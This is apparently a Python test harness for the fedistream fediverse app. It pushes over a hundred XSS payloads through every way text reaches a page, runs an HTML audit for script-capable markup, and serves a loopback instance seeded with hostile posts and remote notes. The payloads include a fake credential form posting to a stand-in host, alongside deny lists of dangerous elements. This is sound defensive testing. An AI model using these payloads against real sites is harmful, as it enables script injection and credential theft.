"""Item 4 of issue 5, the ground: the XSS payloads, a page audit, and a running server full of them.

`PAYLOADS` (more than a hundred) are pushed through every way text reaches a page: the owner's
Markdown, title, content warning and image descriptions; the profile's name, bio and links;
remote notes (content, content warning, image descriptions, hashtags, URLs, reply targets) and
remote display names. `audit(html)` lists whatever in a page could run script, load a frame,
change where the page's links or forms go, or steal a tab. `build_world()` serves the real app on
loopback (remote actors from the in-memory directory of tests/web/test_inbox.py), publishes one
thought per payload, and has one remote account per payload reply, like and post.
"""

from __future__ import annotations

import io
import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
from PIL import Image

from fedistream.app import build_app
from fedistream.core import httpsig
from fedistream.core.as2 import AS_CONTEXT
from fedistream.settings import load_settings
from tests.conftest import OWNER_PASSWORD
from tests.core.test_render import XSS_PAYLOADS
from tests.hostile.harness import ServedApp, free_port, served
from tests.web.test_inbox import AS2, FakeDirectory, _key, remote_actor

# Payloads that mark their success where a browser test can see it (window.__xss, the title),
# and every context of our templates they might try to close: attributes, <title>, <textarea>,
# <summary>, comments, raw-text elements; Markdown's own link and image syntax; parser
# differentials (mXSS); encodings and Unicode lookalikes.
MARKED = [
    "<script>window.__xss=1</script>",
    "<script>document.title='__xss__'</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src=x/onerror=window.__xss=1>",
    '<img src="x" onerror="document.title=\'__xss__\'"',
    "<svg/onload=window.__xss=1>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="9" y="9">x</text></a></svg>',
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1>",
    "<textarea autofocus onfocus=window.__xss=1>",
    "<video src=x onerror=window.__xss=1>",
    "<audio src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    '<iframe src="javascript:parent.__xss=1">',
    '<object data="data:text/html,<script>parent.__xss=1</script>">',
    '<embed src="data:text/html,<script>parent.__xss=1</script>">',
    '<script src="data:,window.__xss=1"></script>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="http://127.0.0.1:9/">',
    '<form action="http://127.0.0.1:9/steal"><input name="password"><button>Log in</button></form>',
    '<button formaction="javascript:window.__xss=1">x</button>',
    "<template><script>window.__xss=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "<math><mi><style><img src=x onerror=window.__xss=1></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    '"><img src=x onerror=window.__xss=1>',
    "' autofocus onfocus='window.__xss=1",
    '" autofocus onfocus="window.__xss=1',
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</summary><img src=x onerror=window.__xss=1>",
    "</details></article><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    '<a href="javas&#x09;cript:window.__xss=1">x</a>',
    '<a href="&#14;javascript:window.__xss=1">x</a>',
    '<a href="javascript&#58;window.__xss=1">x</a>',
    '<a href="  JAVASCRIPT:window.__xss=1">x</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
    '<a href="http://127.0.0.1:9/" target="_blank">tab</a>',
    "<IMG SRC=JaVaScRiPt:window.__xss=1>",
    '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
    "<<SCRIPT>window.__xss=1;//<</SCRIPT>",
    "<scr\x00ipt>window.__xss=1</scr\x00ipt>",
    "\u2028<script>window.__xss=1</script>",
    "＜script＞window.__xss=1＜/script＞",
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<p style="width:expression(window.__xss=1)">x</p>',
    "<x contenteditable onblur=window.__xss=1>x</x>",
    "<div draggable=true ondragstart=window.__xss=1>x</div>",
    '<img src="http://127.0.0.1:9/pixel.png">',
    "[x](javascript:window.__xss=1)",
    '[x](javascript:window.__xss=1 "title")',
    "[x](<javascript:window.__xss=1>)",
    "![x](javascript:window.__xss=1)",
    '![x" onerror="window.__xss=1](http://127.0.0.1:9/a.png)',
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "<javascript:window.__xss=1>",
    "[a]: javascript:window.__xss=1\n\n[x][a]",
    "**<img src=x onerror=window.__xss=1>**",
    "`</code><script>window.__xss=1</script>`",
    "#tag<img src=x onerror=window.__xss=1>",
    "#<script>window.__xss=1</script>",
    "@x@127.0.0.1:9<script>window.__xss=1</script>",
    "{{ 7*7 }}{% raw %}<script>window.__xss=1</script>",
]
PAYLOADS: list[str] = list(dict.fromkeys([*XSS_PAYLOADS, *MARKED]))  # tests/core's list too
# Where a payload must be a URL (profile links, a remote note's reply target, an image).
URL_PAYLOADS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
    'http://127.0.0.1:9/"><script>window.__xss=1</script>',
    "http://127.0.0.1:9/' onmouseover='window.__xss=1",
    "https://127.0.0.1:9/?q=<script>window.__xss=1</script>",
    "//127.0.0.1:9/protocol-relative",
]

# --- the audit -----------------------------------------------------------------------------------

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "svg",
    "math", "template", "xmp", "plaintext", "listing", "isindex", "keygen", "marquee", "portal",
    "param", "audio", "video", "source", "track", "canvas", "dialog", "noscript",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "background", "dynsrc", "lowsrc"}
URL_ATTRIBUTES = {"href", "src", "action", "cite", "poster", "data", "srcset", "xlink:href"}
META_NAMES = {"viewport", "color-scheme", "description", "fediverse:creator", "robots"}
LINK_RELS = {"stylesheet", "icon", "canonical", "alternate", "me"}


_C0_AND_SPACE = "".join(map(chr, range(0x21)))


def _scheme(url: str) -> str:
    # What a browser does (WHATWG URL): strip leading and trailing C0 controls and spaces, drop
    # every tab and newline anywhere, then read a scheme of letters, digits, "+", "-" and ".".
    cleaned = "".join(ch for ch in url.strip(_C0_AND_SPACE) if ch not in "\t\n\r")
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return scheme.group(1).lower() if scheme else ""  # anything else is a relative URL


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and ("http-equiv" in found or not (
            "charset" in found or found.get("name", "") in META_NAMES
            or found.get("name", "").startswith("twitter:")
            or found.get("property", "").startswith(("og:", "article:"))
        )):  # fmt: skip
            self.problems.append(f"<meta {found}>")
        if tag == "link":
            rel = found.get("rel", "")
            if rel not in LINK_RELS or (
                rel == "stylesheet" and found.get("href") != "/static/style.css"
            ):
                self.problems.append(f"<link {found}>")
        if tag == "form":
            action = found.get("action", "")
            if not action.startswith("/") or action.startswith("//"):
                self.problems.append(f"<form action={action!r}>")
        if tag == "input" and found.get("type", "").lower() == "image":
            self.problems.append("<input type=image>")
        for name, value in found.items():
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES:
                scheme = _scheme(value)
                icon = tag == "link" and found.get("rel") == "icon" and value == "data:,"
                if scheme not in ("", "http", "https", "mailto") and not icon:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "a" and "target" in found and "noopener" not in found.get("rel", ""):
            self.problems.append(f"<a target> without noopener: {found}")


def audit(html: str) -> list[str]:
    """Everything in `html` that could run script or take the page (or the reader) elsewhere."""
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


# --- the world -----------------------------------------------------------------------------------

PEERS = "http://127.0.0.1:9"


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 40, 40)).save(buffer, "PNG")
    return buffer.getvalue()


def actor_of(i: int) -> str:
    return f"{PEERS}/users/x{i}"


@dataclass
class World:
    app: ServedApp
    owner: httpx.Client  # logged in; does not follow redirects
    reader: httpx.Client  # a stranger
    csrf: str
    post_ids: list[str] = field(default_factory=list)  # one per payload, in PAYLOADS order
    thread_post: str = ""  # the thought every remote account answers
    note_ids: list[str] = field(default_factory=list)

    def html(self, client: httpx.Client, url: str) -> str:
        response = client.get(url)
        assert response.status_code in (200, 400, 404), (url, response.status_code)
        return response.text

    def pages(self, client: httpx.Client, first: str) -> Iterator[tuple[str, str]]:
        """`first` and every older page after it (the pager's links)."""
        url: str | None = first
        while url:
            html = self.html(client, url)
            yield url, html
            url = _older(first, html)

    def set_profile(self, name: str, bio: str, links: list[tuple[str, str]]) -> httpx.Response:
        data = {"csrf": self.csrf, "display_name": name, "bio": bio}
        for i, (label, url) in enumerate(links):
            data[f"link_label_{i}"], data[f"link_url_{i}"] = label, url
        return self.owner.post("/admin/profile", data=data)


def _older(first: str, html: str) -> str | None:
    match = re.search(r'href="([^"]*\?before=[^"]+)"[^>]*>Older', html)
    if not match:
        return None
    link = match.group(1).replace("&amp;", "&")
    return (first.split("?", 1)[0] + link) if link.startswith("?") else link


def _signed_post(world: World, activity: dict[str, Any], actor: str) -> None:
    body = json.dumps(activity).encode()
    url = world.app.base + "/inbox"
    headers = httpsig.sign_request(
        "POST", url, {"content-type": AS2}, body, _key("xss"), actor + "#main-key",
        time.time(),
    )  # fmt: skip
    response = world.reader.post("/inbox", content=body, headers=headers)
    assert response.status_code == 202, (activity["id"], response.text)


def _note(i: int, n: int, payload: str, in_reply_to: str) -> dict[str, Any]:
    actor = actor_of(i)
    note_id = f"{actor}/notes/{n}"
    url = URL_PAYLOADS[i % len(URL_PAYLOADS)]
    return {
        "id": note_id,
        "type": "Note",
        "attributedTo": actor,
        "inReplyTo": in_reply_to,
        "to": ["https://www.w3.org/ns/activitystreams#Public"],
        # Distinct times: the owner's timeline pages by `published`.
        "published": f"2024-01-0{n}T{i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}Z",
        "content": payload,
        "summary": payload,
        "url": [url, {"type": "Link", "href": url, "mediaType": "text/html"}],
        "tag": [{"type": "Hashtag", "name": "#" + payload, "href": url}],
        "attachment": [
            {"type": "Document", "mediaType": "image/png", "url": f"{PEERS}/m/{i}.png",
             "name": payload},
        ],
    }  # fmt: skip


@contextmanager
def build_world(data_dir: Any) -> Iterator[World]:
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    settings = load_settings(
        env={}, data_dir=data_dir, owner_password=OWNER_PASSWORD, base_url=base,
        allow_private_networks=True,
    )  # fmt: skip
    with (
        served(build_app(settings), port=port) as app,
        httpx.Client(base_url=base, timeout=20) as owner,
        httpx.Client(base_url=base, timeout=20) as reader,
    ):
        directory = FakeDirectory(app.ctx.db)
        app.ctx.directory = directory
        page = owner.get("/admin/login").text
        token = page.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        logged = owner.post("/admin/login", data={"csrf": token, "password": OWNER_PASSWORD})
        assert logged.status_code == 303, logged.text
        csrf = owner.get("/admin").text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        world = World(app, owner, reader, csrf)
        _publish_all(world)
        _remote_all(world, directory)
        yield world


def _publish_all(world: World) -> None:
    png = _png()
    for payload in PAYLOADS:
        response = world.owner.post(
            "/admin/posts",
            data={
                "csrf": world.csrf,
                "source": f"{payload}\n\n#{payload}",
                "title": payload[:200],
                "summary": payload[:500],
                "alt_1": payload,
                "action": "publish",
            },
            files={"image_1": ("x.png", png, "image/png")},
        )
        assert response.status_code == 303, (payload, response.status_code, response.text[:500])
        world.post_ids.append(response.headers["location"].rsplit("/", 1)[-1])
    thread = world.owner.post(
        "/admin/posts",
        data={"csrf": world.csrf, "source": "Replies welcome.", "action": "publish"},
    )
    world.thread_post = thread.headers["location"].rsplit("/", 1)[-1]


def _remote_all(world: World, directory: FakeDirectory) -> None:
    thread_url = f"{world.app.base}/p/{world.thread_post}"
    stamp = "2024-01-01T00:00:00Z"

    async def follow_everyone() -> None:
        async with world.app.ctx.db.transaction() as conn:
            for i in range(len(PAYLOADS)):
                await conn.execute(
                    "INSERT INTO following (actor_id, follow_id, state, created_at) "
                    "VALUES (?, ?, 'accepted', ?)",
                    (actor_of(i), f"{world.app.base}/#follows/{i}", stamp),
                )

    for i, payload in enumerate(PAYLOADS):
        base_actor = remote_actor(actor_of(i), "xss")
        # Display names get the payload; every other account's handle does too.
        directory.add(replace(base_actor, name=payload, username=payload if i % 2 else None))
    world.app.call(follow_everyone)
    for i, payload in enumerate(PAYLOADS):
        actor = actor_of(i)
        reply = _note(i, 1, payload, thread_url)
        aside = _note(i, 2, payload, URL_PAYLOADS[i % len(URL_PAYLOADS)])
        for note in (reply, aside):
            _signed_post(
                world,
                {"@context": AS_CONTEXT, "id": note["id"] + "/activity", "type": "Create",
                 "actor": actor, "object": note},
                actor,
            )  # fmt: skip
            world.note_ids.append(note["id"])
        _signed_post(
            world,
            {"@context": AS_CONTEXT, "id": f"{actor}/likes/1", "type": "Like", "actor": actor,
             "object": thread_url, "content": payload},
            actor,
        )  # fmt: skip
    _wait_processed(world)


def _wait_processed(world: World, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while True:
        rows = world.app.call(
            world.app.ctx.db.fetchall,
            "SELECT state, count(*) AS n FROM inbox GROUP BY state",
            (),
        )
        states = {row["state"]: row["n"] for row in rows}
        if not states.get("pending"):
            assert states.get("done", 0) >= 2 * len(PAYLOADS), states
            return
        assert time.monotonic() < deadline, states
        time.sleep(0.05)


def quoted(text: str) -> str:
    return quote(text, safe="")


def same_origin(url: str, base: str) -> bool:
    parts = urlsplit(url)
    return not parts.netloc or f"{parts.scheme}://{parts.netloc}" == base
